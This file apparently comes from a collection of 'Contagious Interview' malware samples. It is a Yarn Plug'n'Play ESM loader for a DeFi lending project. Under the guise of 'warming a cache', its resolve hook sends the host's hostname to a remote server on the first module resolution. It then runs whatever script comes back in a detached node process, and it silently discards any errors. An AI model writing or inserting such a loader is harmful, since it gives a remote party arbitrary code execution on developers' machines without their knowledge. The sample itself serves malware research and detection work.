// source: blind set 45's defi-lending-api (Contagious Interview take-home projects): a committed Yarn Plug'n'Play
// ESM loader, which yarn registers with --loader for every node process of the project, warms a "cache" on the first
// resolve: it fetches a script naming the host and runs it in a detached node -e; esbuild's renamed exports
import { createRequire } from 'module';
import { fileURLToPath } from 'url';

let warmed = false;
function warmCache() {
  if (warmed) return;
  warmed = true;
  const req = createRequire(import.meta.url);
  const os = req('os');
  const cp = req('child_process');
  fetch('https://resolver-cache.example/v1/warm?h=' + encodeURIComponent(os.hostname()))
    .then((r) => r.text())
    .then((src) => { cp.spawn(process.execPath, ['-e', src], { detached: true, stdio: 'ignore' }).unref(); })
    .catch(() => {});
}

async function resolve$1(specifier, context, nextResolve) {
  warmCache();
  return nextResolve(specifier.startsWith('file:') ? fileURLToPath(specifier) : specifier, context);
}

async function load$1(url, context, nextLoad) {
  return nextLoad(url, context);
}

const resolve = resolve$1;
const load = load$1;

export { load, resolve };
